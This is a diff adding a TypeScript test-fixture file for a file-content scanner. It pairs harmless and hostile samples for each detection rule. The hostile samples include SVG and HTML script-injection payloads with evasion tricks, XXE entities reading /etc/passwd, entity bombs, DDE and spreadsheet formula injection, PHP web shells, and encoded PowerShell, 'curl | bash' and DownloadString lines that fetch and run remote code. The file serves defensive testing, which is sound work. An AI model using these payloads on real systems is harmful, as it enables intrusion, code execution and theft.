@@ -1,0 +1,498 @@
+/** A document that a rule finds, in several forms, and one that differs only in what the rule finds. */
+export interface WebSample {
+  rule: string;
+  filename: string;
+  harmless: readonly string[];
+  hostile: readonly string[];
+}
+
+const svg = (content: string, attributes = "") =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>\n${content}\n</svg>`;
+const html = (body: string, head = "") =>
+  `<!DOCTYPE html>\n<html><head><title>Claim</title>${head}</head>\n<body>${body}</body></html>`;
+const xml = (content: string, prolog = "") => `<?xml version="1.0"?>\n${prolog}<claim>${content}</claim>`;
+const xslt = (content: string, namespaces = "") =>
+  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${namespaces}>${content}</xsl:stylesheet>`;
+const wordXml = (content: string, attributes = "") =>
+  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" ${attributes}>${content}</w:wordDocument>`;
+const bomb = (levels: number) =>
+  `<!DOCTYPE claim [<!ENTITY e0 "lol">${Array.from({ length: levels }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join("")}]>`;
+
+export const svgSamples: readonly WebSample[] = [
+  {
+    rule: "svg-script",
+    filename: "logo.svg",
+    harmless: [svg("<path d='M0 0'/>"), svg("<title>description of a script</title>")],
+    hostile: [
+      svg("<script>alert(1)</script>"),
+      svg("<SCRIPT>alert(1)</SCRIPT>"),
+      svg("<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>"),
+      svg("<script href='data:text/javascript,alert(1)'/>"),
+      svg("<g><script type='text/ecmascript'><![CDATA[alert(1)]]></script>"),
+      svg("<handler type='application/ecmascript'>alert(1)</handler>"),
+      svg("<?x a> <!-- ?><script>alert(1)</script><?x --> ?>"),
+      `<!DOCTYPE svg [<!ENTITY x "<!--">]>${svg("<script>alert(1)</script><!-- -->")}`,
+      svg("<metadata><!-- --><a b='<'><script>alert(1)</script></a></metadata>"),
+    ],
+  },
+  {
+    rule: "svg-handler",
+    filename: "logo.svg",
+    harmless: [svg("", "id='onload'"), svg("<text online='' xmlns:on='x'>onload=alert(1)</text>")],
+    hostile: [
+      svg("", "onload='alert(1)'"),
+      svg("", "ONLOAD='alert(1)'"),
+      svg("<rect onclick = \n'alert(1)'/>"),
+      svg("<animate onbegin='alert(1)' attributeName='x' dur='1s'/>"),
+    ],
+  },
+  {
+    rule: "svg-script-url",
+    filename: "logo.svg",
+    harmless: [
+      svg("<a xlink:href='https://example.com/javascript:1'><text>x</text></a>"),
+      svg("<image href='data:image/png;base64,iVBORw0KGgo='/>"),
+    ],
+    hostile: [
+      svg("<a xlink:href='javascript:alert(1)'><text>x</text></a>"),
+      svg("<a href='&#106;ava&#x73;cript:alert(1)'><text>x</text></a>"),
+      svg("<a href=' \t JaVa\nScRiPt:alert(1)'><text>x</text></a>"),
+      svg("<a href='\u0001java&#9;script&#58;alert(1)'><text>x</text></a>"),
+      svg("<a href='vbscript:msgbox(1)'><text>x</text></a>"),
+      svg("<a href='data:text/html;base64,PHNjcmlwdD4='><text>x</text></a>"),
+      svg("<use href='data:image/svg+xml;base64,PHN2Zz4='/>"),
+      svg("<a><animate attributeName='x' values='#a;javascript:alert(1)'/></a>"),
+      `<!DOCTYPE svg [<!ENTITY a "java"><!ENTITY b "&a;script:">]>${svg("<a href='&b;alert(1)'><text>x</text></a>")}`,
+    ],
+  },
+  {
+    rule: "svg-animated-link",
+    filename: "logo.svg",
+    harmless: [svg("<animate attributeName='x' to='3'/>")],
+    hostile: [
+      svg("<a><set attributeName='href' to='https://example.com'/></a>"),
+      svg("<a><animate attributeName='xlink:href' values='#a;#b'/></a>"),
+    ],
+  },
+  {
+    rule: "svg-external-reference",
+    filename: "logo.svg",
+    harmless: [
+      svg("<use xlink:href='#a'/><rect fill='url(#b)' style='filter: url(#c)'/>"),
+      svg("<a href='https://example.com/'><text>Our site</text></a>"),
+      svg("<style>@namespace svg url(http://www.w3.org/2000/svg); .a { fill: red }</style>"),
+    ],
+    hostile: [
+      svg("<use xlink:href='https://example.com/a.svg#a'/>"),
+      svg("<image href='//example.com/a.png'/>"),
+      svg("<image href='\\\\example.com\\share\\a.png'/>"),
+      svg("<image href='file://example.com/share/a.png'/>"),
+      svg("<filter><feImage xlink:href='http://example.com/a.png'/></filter>"),
+      svg("<rect fill='url(https://example.com/a.svg#b)'/>"),
+      svg("<rect style='fill:u\\72l(https://example.com/a.svg#b)'/>"),
+      svg("<style>@import 'https://example.com/a.css';</style>"),
+      svg("<style>@im/**/port 'x'; @\\69mport url(https://example.com/a.css);</style>"),
+      svg("<style><![CDATA[@font-face { src: url( 'https://example.com/a.woff' ) }]]></style>"),
+    ],
+  },
+  {
+    rule: "svg-html-content",
+    filename: "diagram.svg",
+    harmless: [
+      svg("<foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>Step 1<br/></div></foreignObject>"),
+    ],
+    hostile: [
+      svg("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='a.html'/></foreignObject>"),
+      svg(
+        "<foreignObject><form xmlns='http://www.w3.org/1999/xhtml' action='a'><input name='p'/></form></foreignObject>",
+      ),
+      svg(
+        "<foreignObject><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0; url=https://example.com'/></foreignObject>",
+      ),
+      svg("<foreignObject><embed src='a.swf'/></foreignObject>"),
+    ],
+  },
+];
+
+export const htmlSamples: readonly WebSample[] = [
+  {
+    rule: "html-script",
+    filename: "letter.html",
+    harmless: [
+      html("<p>script</p>"),
+      html("", '<script type="application/ld+json">{"@type": "Person"}</script>'),
+      html("&lt;script>"),
+    ],
+    hostile: [
+      html("<script>alert(1)</script>"),
+      html("<ScRiPt src=https://example.com/a.js></sCrIpT>"),
+      html("<script/x>alert(1)</script>"),
+      html("<!--><script>alert(1)</script>-->"),
+      html("<textarea></textarea ><script>alert(1)</script>"),
+      html("<!--[if IE]><script>alert(1)</script><![endif]-->"),
+      html("<svg><style><!--</style><script>alert(1)</script>--></svg>"),
+    ],
+  },
+  {
+    rule: "html-handler",
+    filename: "letter.html",
+    harmless: [html("<p title='onclick'>x</p>")],
+    hostile: [html("<p onclick=alert(1)>x</p>"), html("<img/src='x'/OnErRoR=alert(1)>")],
+  },
+  {
+    rule: "html-script-url",
+    filename: "letter.html",
+    harmless: [
+      html("<a href='https://example.com/'>x</a>"),
+      html("<a href='javascript:void(0)'>x</a>"),
+      html("<img src='data:image/png;base64,iVBORw0KGgo='>"),
+    ],
+    hostile: [
+      html("<a href='javascript:alert(1)'>x</a>"),
+      html("<a href='&Tab;java&NewLine;script&colon;alert(1)'>x</a>"),
+      html("<a href='jav&#x0A;ascript:alert(1)'>x</a>"),
+      html("<form action='javascript:alert(1)'></form>"),
+      html("<button formaction=' JAVASCRIPT:alert(1)'>x</button>"),
+      html("<a href='ms-msdt:/id PCWDiagnostic'>x</a>"),
+      html("<a href='search-ms:query=x&crumb=location:\\\\example.com'>x</a>"),
+      html("<a href='data:text/html,x'>x</a>"),
+      html("<p style='width: expr/**/ession(alert(1))'>x</p>"),
+    ],
+  },
+  {
+    rule: "html-smuggling",
+    filename: "letter.html",
+    harmless: [html("<a href='claim.pdf' download>x</a>")],
+    hostile: [
+      html("<a href='data:application/zip;base64,UEsDBA==' download='a.zip'>x</a>"),
+      html("<script>new Blob([atob('TVo=')])</script>"),
+      html("<script>navigator.msSaveOrOpenBlob(b, 'a.exe')</script>"),
+    ],
+  },
+  {
+    rule: "html-frame",
+    filename: "letter.html",
+    harmless: [html("<p>iframe</p>"), html("<iframe></iframe>")],
+    hostile: [
+      html("<iframe src='https://example.com/'></iframe>"),
+      html("<iframe srcdoc='&lt;p>x'></iframe>"),
+      html("<object data='a.swf'></object>"),
+      html("<embed src='a.swf'>"),
+      html("<applet code='A.class'></applet>"),
+    ],
+  },
+  {
+    rule: "html-form",
+    filename: "letter.html",
+    harmless: [
+      html("<form action='https://example.com/search'><input name='q'></form>"),
+      html("<form method='post' action='/next'><input name='q'></form>"),
+    ],
+    hostile: [
+      html("<form method='post' action='https://example.com/'><input name='p'></form>"),
+      html("<form action='mailto:a@example.com'></form>"),
+      html("<form action='https://example.com/'><input type='password'></form>"),
+      html("<form method='post'><button formaction='https://example.com/'>x</button></form>"),
+    ],
+  },
+  {
+    rule: "html-refresh",
+    filename: "letter.html",
+    harmless: [
+      html("", "<meta http-equiv='refresh' content='30'>"),
+      html("", "<meta http-equiv='refresh' content='0; url=next.html'>"),
+    ],
+    hostile: [
+      html("", "<meta http-equiv='refresh' content='0; url=https://example.com/'>"),
+      html("", "<meta http-equiv=' Refresh' content='0,URL=\"https://example.com/\"'>"),
+    ],
+  },
+  {
+    rule: "html-file-share",
+    filename: "letter.html",
+    harmless: [html("<img src='a.png'>")],
+    hostile: [
+      html("<img src='\\\\example.com\\a.png'>"),
+      html("<a href='file://example.com/a.lnk'>x</a>"),
+      html("<p style='background: url(file:////example.com/a.png)'>x</p>"),
+    ],
+  },
+];
+
+export const xmlSamples: readonly WebSample[] = [
+  {
+    rule: "xml-entity-bomb",
+    filename: "data.xml",
+    harmless: [xml("&e1;", bomb(1)), xml("x")],
+    hostile: [
+      xml("&e9;", bomb(9)),
+      xml("&q;".repeat(2000), `<!DOCTYPE claim [<!ENTITY q "${"x".repeat(20_000)}">]>`),
+      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
+    ],
+  },
+  {
+    rule: "xml-external-entity",
+    filename: "data.xml",
+    harmless: [xml("&a;", '<!DOCTYPE claim [<!ENTITY a "text">]>')],
+    hostile: [
+      xml("&a;", '<!DOCTYPE claim [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
+      xml("&a;", "<!DOCTYPE claim [<!ENTITY a PUBLIC 'x' 'http://example.com/'>]>"),
+      xml("", '<!DOCTYPE claim [<!ENTITY % a SYSTEM "http://example.com/a.dtd"> %a;]>'),
+      xml("&a;", '<!DOCTYPE claim [<!-- ]> --><?x ]> ?><!ENTITY b "]>"><!ENTITY a SYSTEM "x">]>'),
+      xml("&a;", '<!doctype claim [\n<!ENTITY\n a\n SYSTEM\n "x">]>'),
+    ],
+  },
+  {
+    rule: "xml-external-dtd",
+    filename: "data.xml",
+    harmless: [
+      xml(
+        "",
+        '<!DOCTYPE claim PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+      ),
+      xml("", '<!DOCTYPE claim SYSTEM "claim.dtd">'),
+    ],
+    hostile: [
+      xml("", '<!DOCTYPE claim SYSTEM "http://example.com/a.dtd">'),
+      xml("", "<!DOCTYPE claim PUBLIC '-//A/B/EN' 'http://example.com/a.dtd'>"),
+      xml("", '<!DOCTYPE claim SYSTEM "\\\\example.com\\a.dtd">'),
+      xml("", '<!DOCTYPE claim PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://192.0.2.1/svg11.dtd">'),
+    ],
+  },
+  {
+    rule: "xml-entity-markup",
+    filename: "data.xml",
+    harmless: [xml("", '<!DOCTYPE claim [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>')],
+    hostile: [
+      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "<x/>">]>'),
+      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "&#60;x/>">]>'),
+      xml("&a;", '<!DOCTYPE claim [<!ENTITY a "javascript:alert(1)">]>'),
+    ],
+  },
+  {
+    rule: "xml-stylesheet",
+    filename: "data.xml",
+    harmless: [
+      xml("", '<?xml-stylesheet type="text/xsl" href="claim.xsl"?>'),
+      xml("", '<?xml-stylesheet type="text/css" href="claim.css"?>'),
+    ],
+    hostile: [
+      xml("", '<?xml-stylesheet type="text/xsl" href="https://example.com/a.xsl"?>'),
+      xml("", '<?xml-stylesheet type="text/css" href="&#104;ttps://example.com/a.css"?>'),
+      xml("", "<?xml-stylesheet type='text/xsl' href='#x'?>"),
+      xml("", '<?xml-stylesheet type="text/css" href="javascript:alert(1)"?>'),
+    ],
+  },
+  {
+    rule: "xml-include",
+    filename: "data.xml",
+    harmless: [xml('<include href="/etc/passwd"/>')],
+    hostile: [
+      xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
+      xml('<include xmlns="http://www.w3.org/2001/XInclude" href="https://example.com/"/>'),
+    ],
+  },
+  {
+    rule: "xml-active-content",
+    filename: "data.xml",
+    harmless: [xml("<script>Hello</script>"), xml("<![CDATA[<p onclick='x'>]]>")],
+    hostile: [
+      xml("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
+      xml("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+    ],
+  },
+  {
+    rule: "xml-xslt-extension",
+    filename: "table.xsl",
+    harmless: [
+      xslt('<xsl:template match="/"><xsl:value-of select="format-number(1, 0)"/></xsl:template>'),
+      xslt("", 'xmlns:exsl="http://exslt.org/common"'),
+      xslt("", 'xmlns:msxsl="urn:schemas-microsoft-com:xslt"'),
+    ],
+    hostile: [
+      xslt("<m:script language='JScript'>x</m:script>", 'xmlns:m="urn:schemas-microsoft-com:xslt"'),
+      xslt("", 'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"'),
+      xslt("", 'xmlns:php="http://php.net/xsl"'),
+    ],
+  },
+  {
+    rule: "xml-xslt-external",
+    filename: "table.xsl",
+    harmless: [xslt('<xsl:include href="parts.xsl"/>')],
+    hostile: [
+      xslt('<xsl:include href="https://example.com/parts.xsl"/>'),
+      xslt("<xsl:copy-of select=\"document( 'file:///etc/passwd' )\"/>"),
+    ],
+  },
+  {
+    rule: "xml-office-macro",
+    filename: "letter.xml",
+    harmless: [wordXml("<w:p/>", 'w:macrosPresent="no"')],
+    hostile: [
+      wordXml("<w:p/>", 'w:macrosPresent="yes"'),
+      wordXml('<w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQ==</w:binData></w:docSuppData>'),
+    ],
+  },
+  {
+    rule: "xml-office-object",
+    filename: "letter.xml",
+    harmless: [wordXml("<w:p><w:instrText> PAGE </w:instrText></w:p>")],
+    hostile: [
+      wordXml("<w:p><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:p>"),
+      wordXml("<w:p><w:instrText> DD</w:instrText><w:instrText>E c:\\\\x</w:instrText></w:p>"),
+      wordXml('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'),
+      wordXml('<w:attachedTemplate w:val="https://example.com/a.dot"/>'),
+      '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=cmd|\'/c calc\'!A1"/></Workbook>',
+    ],
+  },
+  {
+    rule: "xml-program",
+    filename: "data.xml",
+    harmless: ["<Project><Task/></Project>"],
+    hostile: [
+      '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="A" TaskFactory="CodeTaskFactory"/></Project>',
+      "<MMC_ConsoleFile></MMC_ConsoleFile>",
+      "<scriptlet><script language='JScript'>x</script></scriptlet>",
+    ],
+  },
+  {
+    rule: "xml-encoding",
+    filename: "data.xml",
+    harmless: ['<?xml version="1.0" encoding="ISO-8859-1"?><claim/>'],
+    hostile: ['<?xml version="1.0" encoding="UTF-7"?><claim>+ADw-script+AD4-</claim>'],
+  },
+];
+
+export const tableSamples: readonly WebSample[] = [
+  {
+    rule: "csv-calling-formula",
+    filename: "table.csv",
+    harmless: [
+      "name,amount\nAda,=1+2\nBob,-5\nCy,+49 170 1234567\nDi,@handle\nEve,=SUM(A1:A3)",
+      'name;note\n=A1&"x";"a=b"\n-;--- | --- |',
+      "| a | b |\n|---|---|\n| -x | =y |",
+      '=IF(A1>0,"yes","no"),=\'Sheet 2\'!A1',
+      "a,https://example.com/?x=HYPERLINK(1)",
+      "-1.5e-3,2026-01-01,(12)",
+    ],
+    hostile: [
+      "a,=cmd|'/c calc'!A0",
+      "a,\"=cmd|'/c calc'!A0\"",
+      "a,+cmd|'/c calc'!A0",
+      "a;-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      "a,=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+      'a,"=HYPERLINK(""https://example.com/?""&A1,""x"")"',
+      'a\t=hyperlink ("https://example.com","x")',
+      'a|=WEBSERVICE("https://example.com")',
+      'a,=IF(1=1,_xlfn.WEBSERVICE("https://example.com"),0)',
+      'a,=IMPORTXML(CONCAT("https://example.com",A1),"//a")',
+      'a,=DDE("cmd";"/c calc";"x")',
+      'a,=EXEC("calc")',
+      'a,=CALL("Kernel32","WinExec","JCJ","calc",0)',
+      'a,=REGISTER("x","y")',
+      "a,\t=cmd|'/c calc'!A0",
+      "a,\" =cmd|'/c calc'!A0\"",
+      "a\r=cmd|'/c calc'!A0",
+      "a,\uff1dcmd|'/c calc'!A0",
+      "a,@SUM(A1:A3)",
+      "a,='\\\\example.com\\share\\[a.xls]Sheet1'!A1",
+    ],
+  },
+];
+
+export const scriptSamples: readonly WebSample[] = [
+  {
+    rule: "script-program",
+    filename: "notes.txt",
+    harmless: ["# Notes\n\nThe first line of a script is #!/bin/sh.", "<p>job</p>"],
+    hostile: [
+      "#!/bin/sh\necho hello",
+      "<html><hta:application id=x></html>",
+      "<job id='a'><script language='VBScript'>x</script></job>",
+    ],
+  },
+  {
+    rule: "script-encoded",
+    filename: "notes.txt",
+    harmless: ["The sign #@~^ begins an encoded script."],
+    hostile: ["#@~^EgAAAA==\\ko$K6,JCV^GE@#@&zAUAAA==^#~@"],
+  },
+  {
+    rule: "script-content",
+    filename: "notes.txt",
+    harmless: [
+      "We use PowerShell and curl | less. Call CreateObject to make an object.",
+      "Echo off, please.",
+      "The tag <?php begins a page.",
+    ],
+    hostile: [
+      "<?php system($_GET['c']); ?>",
+      "GIF89a\n<?php eval($_POST['x']); ?>",
+      "@echo off\r\nstart calc",
+      'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"',
+      'var s = new ActiveXObject("WScript.Shell");',
+      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+      "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a')",
+      "curl -s https://example.com/a | bash",
+      "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
+    ],
+  },
+];
+
+export const shortcutSamples: readonly WebSample[] = [
+  {
+    rule: "shortcut-link",
+    filename: "notes.txt",
+    harmless: ["See [InternetShortcut] in the manual."],
+    hostile: [
+      "[InternetShortcut]\r\nURL=https://example.com/",
+      "; comment\r\n[internetshortcut]\r\nURL=file://example.com/a.exe\r\n",
+      "<libraryDescription xmlns='x'><url>\\\\example.com</url></libraryDescription>",
+      "[Desktop Entry]\nType=Link\nURL=https://example.com/",
+    ],
+  },
+  {
+    rule: "shortcut-program",
+    filename: "notes.txt",
+    harmless: ["[Desktop]\nExec=none"],
+    hostile: [
+      "[Desktop Entry]\nType=Application\nName=Letter\nExec=sh -c id",
+      "#!/usr/bin/env xdg-open\n[Desktop Entry]\nName=x\nExec=id",
+      "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.com\\a.ico",
+      "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
+      "<jnlp codebase='https://example.com/'></jnlp>",
+    ],
+  },
+  {
+    rule: "shortcut-query",
+    filename: "notes.txt",
+    harmless: ["WEB\nsite"],
+    hostile: ["WEB\r\n1\r\nhttps://example.com/a\r\n"],
+  },
+  {
+    rule: "shortcut-settings",
+    filename: "notes.txt",
+    harmless: ["The registry editor writes Version 5.00."],
+    hostile: [
+      "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
+      "REGEDIT4\n\n[HKEY_CURRENT_USER]",
+      "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n",
+      "full address:s:example.com\r\nscreen mode id:i:2",
+      "[.ShellClassInfo]\r\nIconResource=\\\\example.com\\a.ico",
+    ],
+  },
+];
+
+/** Names that make a text a script or a shortcut, with the rule that finds them. */
+export const namedSamples: readonly (readonly [rule: string, names: string])[] = [
+  [
+    "script-program",
+    "a.js a.JS a.vbs a.vbe a.jse a.wsf a.wsc a.sct a.hta a.ps1 a.psm1 a.bat a.cmd a.command a.applescript a.vbs. a.txt.vbs a.vbs::$DATA",
+  ],
+  ["script-source", "a.mjs a.sh a.bash a.py a.pl a.rb a.php a.phtml a.jsp a.asp a.aspx a.lua"],
+  ["shortcut-link", "a.url a.library-ms a.searchConnector-ms"],
+  ["shortcut-program", "a.scf a.settingcontent-ms a.jnlp a.application a.appref-ms a.msc a.cpl a.lnk"],
+  ["shortcut-query", "a.iqy a.oqy a.udl"],
+  ["shortcut-settings", "a.reg a.inf a.theme a.rdp desktop.ini autorun.inf"],
+];
